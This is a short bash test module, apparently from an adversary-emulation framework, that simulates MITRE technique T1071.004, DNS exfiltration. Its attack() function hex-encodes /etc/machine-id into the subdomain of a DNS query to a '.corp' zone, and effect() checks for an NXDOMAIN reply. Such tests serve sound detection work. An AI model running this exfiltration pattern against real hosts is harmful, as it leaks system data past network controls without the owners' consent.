# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1071.004
about="data leaves as names of the zone that another server knows"
note="queries like any others; what names may be asked is the resolver's affair"
attack() { ask udp "$(head -c 20 /etc/machine-id | od -An -tx1 | tr -d ' \n' | head -c 40)x.corp" A >"$state/answer"; }
effect() { grep -q 'code 3' "$state/answer"; }
